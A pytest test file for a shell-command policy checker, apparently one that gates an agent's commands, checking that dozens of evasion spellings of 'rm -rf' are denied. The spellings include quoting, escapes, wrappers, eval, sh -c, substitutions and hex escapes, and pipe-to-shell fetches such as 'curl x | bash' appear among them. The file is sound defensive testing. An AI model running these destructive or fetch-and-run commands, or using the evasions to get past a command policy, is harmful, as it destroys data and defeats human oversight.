"""The shell policy's reading of commands: the bypasses of issue 17 and what stays allowed.

Pure tests of actors/core/shell/rules.py and the shell reader under it (lex.py,
parse.py, argv.py; glob_meet.py); the model is in docs/security.md.
"""

from __future__ import annotations

import fnmatch

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from unit.shell_strategies import HIDING_LINES, Spelled, spelled

from gnomon.actors.core.shell.glob_meet import could_match
from gnomon.actors.core.shell.rules import (
    Decision,
    PolicyRules,
    check,
    classify,
    split_command,
    suggest_pattern,
    validate_pattern,
)
from gnomon.actors.core.shell.words import UNKNOWN, UNKNOWN_WORD
from gnomon.runtime.errors import Refused

RM = PolicyRules(deny=("rm -rf*",))

#: Issue 17, item 8: each ran under `policy deny 'rm -rf*'` or was only `ask`.
BYPASSES = [
    "\\rm -rf X", '"rm" -rf X', "r''m -rf X", "$'rm' -rf X", "nice -n 5 rm -rf X",
    "/usr/bin/env rm -rf X", "env -i FOO=1 rm -rf X", "timeout -s KILL 5 rm -rf X",
    "nohup rm -rf X", "command rm -rf X", "exec rm -rf X", "xargs rm -rf < list",
    "sudo -u root rm -rf X", "eval 'rm -rf X'", "sh -c 'rm -rf X'", 'bash -lc "rm -rf X"',
    "${RM:-rm} -rf X", "$(echo rm) -rf X", "`echo rm` -rf X", "curl x | bash", "curl x | sh",
]  # fmt: skip
MORE = [
    "find /srv -name x -exec rm -rf {} ;", "trap 'rm -rf X' EXIT", "env -S 'rm -rf X'",
    "bash <<EOF\nrm -rf X\nEOF", "bash <<< 'rm -rf X'", "source <(curl x)", ". /dev/stdin",
    'bash -c "$(curl x)"', "{rm,-rf,X}", "/bin/r? -rf X", "r${X}m -rf X", "rm '' -rf X",
    "$'\\x72\\x6d' -rf X", "$'\\162m' -rf X", "time -p rm -rf X", "! rm -rf X", "env - rm -rf X",
    "builtin eval 'r\\m -rf X'", "sh -c \"sh -c 'rm -rf X'\"", "xargs -I{} rm {} -rf",
    "f() { rm -rf \"$1\"; }; f X", "case x in x) rm -rf X;; esac", "cat <(rm -rf X)",
    "echo ${x:-$(rm -rf X)}", "for f in $(rm -rf X); do :; done", "(( $(rm -rf X) ))",
    "ionice -c2 -n7 stdbuf -oL setsid -w /usr/bin/time -f %e rm -rf X", "r\\\nm -rf X",
]  # fmt: skip


@pytest.mark.parametrize("command", BYPASSES + MORE + HIDING_LINES)
def test_every_spelling_of_rm_rf_is_denied(command: str) -> None:
    """Quotes, escapes, paths, wrappers, eval/sh -c, substitutions: all denied, rule named."""
    verdict = classify(command, RM)
    assert verdict.decision is Decision.DENY
    assert verdict.deciding is not None
    assert verdict.deciding.rule == "rm -rf*"
    with pytest.raises(Refused, match=r"deny rule 'rm -rf\*'"):
        check(command, RM, i_know=True, bypass=True, bypass_enabled=True)


@pytest.mark.parametrize(
    "command",
    ["ls -la /tmp", "echo $HOME", "ls $DIR", "cat <<EOF\nhello $USER\nEOF", "git status",
     "cat <<'EOF'\n$(rm -rf x)\nEOF", "echo 'rm -rf x'", "grep -r 'rm -rf' .", "(cd /tmp && ls)",
     "echo {a,b}", "kubectl get pods -n prod"],
)  # fmt: skip
def test_read_only_commands_stay_allowed_under_deny_rules(command: str) -> None:
    """Unknown arguments of a program no rule names, data that mentions rm, a quoted
    here-document: still allowed by the built-in list."""
    assert classify(command, RM).decision is Decision.ALLOW


def test_could_match_means_some_filling_matches() -> None:
    """An unknown argument can be any text; an unknown program can be any command."""
    rules = PolicyRules(deny=("ls /etc*",))
    assert classify("ls $DIR", rules).decision is Decision.DENY
    assert classify("ls /tmp/$DIR", rules).decision is Decision.ALLOW
    verdict = classify("$CMD /tmp", rules)
    assert verdict.decision is Decision.DENY
    assert verdict.deciding is not None
    assert not verdict.deciding.known


def test_rules_spanning_commands_match_the_whole_line_only() -> None:
    """``curl * | sh`` stops a pipe into a shell, not every curl with a variable in it."""
    rules = PolicyRules(deny=("curl * | sh",))
    assert classify("curl $URL -o out", rules).decision is Decision.ASK
    verdict = classify("curl -s https://x |   sh", rules)
    assert verdict.decision is Decision.DENY
    assert verdict.deciding is not None
    assert verdict.deciding.rule == "curl * | sh"


def test_a_shell_reading_code_it_cannot_know_is_denied_by_any_rule() -> None:
    """A shell reading a pipe, or ``sh -c`` of a variable, could run anything."""
    for command in ("curl x | sh", "sh < script.sh", 'sh -c "$CMD"', "eval $(cat f)"):
        assert classify(command, PolicyRules(deny=("terraform destroy",))).decision is Decision.DENY
        assert classify(command, PolicyRules()).decision is Decision.ASK


def test_documented_limits_are_asked_not_denied() -> None:
    """A script file, another interpreter or an alias is not read (docs/security.md)."""
    for command in ("bash ./cleanup.sh", "python3 -c 'import shutil'", "alias r=rm; r -rf X"):
        assert classify(command, RM).decision is Decision.ASK


def test_substitution_outside_any_command_still_asks() -> None:
    """``case $(…) in`` runs the substitution: the line is not allowed."""
    assert classify("case $(curl -s x) in *) ls;; esac", PolicyRules()).decision is Decision.ASK


@pytest.mark.parametrize(
    ("opening", "closing"), [("$(", ")"), ("${x:-", "}"), ('"${x:-', '"}'), ('"$(echo ', '")')]
)
def test_nesting_too_deep_is_refused_not_crashed(opening: str, closing: str) -> None:
    """Thousands of nested substitutions or expansions give a decision, not a RecursionError."""
    command = "echo " + opening * 3000 + "ls" + closing * 3000
    assert classify(command, RM).decision is Decision.DENY
    assert classify(command, PolicyRules()).decision is Decision.ASK


def test_split_reads_heredocs_case_and_functions() -> None:
    """Here-document bodies are data; case patterns and function names are no commands."""
    line = "cat <<E\nnot a command\nE\ncase $x in a|b) ls;; esac\nf() { pwd; }; f"
    assert split_command(line) == ["cat <<E", "ls", "pwd", "f"]


def test_suggestion_for_a_substitution_is_omitted() -> None:
    """``echo $(cat f)`` gets no unusable ``policy allow 'echo $(cat'`` (issue 21)."""
    assert suggest_pattern("echo $(cat /etc/hosts)") is None
    assert suggest_pattern("$TOOL run") is None
    with pytest.raises(Refused) as err:
        check("echo $(cat /etc/hosts)", RM)
    assert "policy allow" not in err.value.message
    assert "no allow rule clears command substitution" in err.value.message
    assert err.value.hint == "add --i-know"


@settings(max_examples=200)
@given(case=spelled(dash_safe=True))
def test_a_suggested_pattern_allows_the_part_it_was_made_for(case: Spelled) -> None:
    """Every suggested allow pattern is a valid rule, and allowing it lets the part run."""
    for part in split_command(case.command):
        pattern = suggest_pattern(part)
        if pattern is None:
            continue
        assert validate_pattern(pattern, kind="allow") == pattern
        rules = PolicyRules(allow=(pattern,), builtin=False)
        assert classify(part, rules).decision is Decision.ALLOW, (part, pattern)


GLOB = st.text(alphabet="ab *?[]!-", max_size=8)
TEXT = st.text(alphabet="ab -]", max_size=8)


@given(pattern=GLOB, text=TEXT)
def test_could_match_is_fnmatch_on_known_text(pattern: str, text: str) -> None:
    """Without unknown pieces, could_match is fnmatchcase."""
    assert could_match(pattern, text) == fnmatch.fnmatchcase(text, pattern)


@given(pattern=GLOB, pieces=st.lists(TEXT, min_size=1, max_size=4), data=st.data())
def test_could_match_holds_for_every_filling(
    pattern: str, pieces: list[str], data: st.DataObject
) -> None:
    """When some filling of the unknown pieces matches, could_match says so (an unknown
    word is filled with nothing or a space and text)."""
    marks = [data.draw(st.sampled_from([UNKNOWN, UNKNOWN_WORD])) for _ in pieces[1:]]
    template = pieces[0] + "".join(m + p for m, p in zip(marks, pieces[1:], strict=True))
    filled = pieces[0]
    for mark, piece in zip(marks, pieces[1:], strict=True):
        fill = data.draw(TEXT)
        if mark == UNKNOWN_WORD:
            fill = data.draw(st.sampled_from(["", " " + fill]))
        filled += fill + piece
    if fnmatch.fnmatchcase(filled, pattern):
        assert could_match(pattern, template)
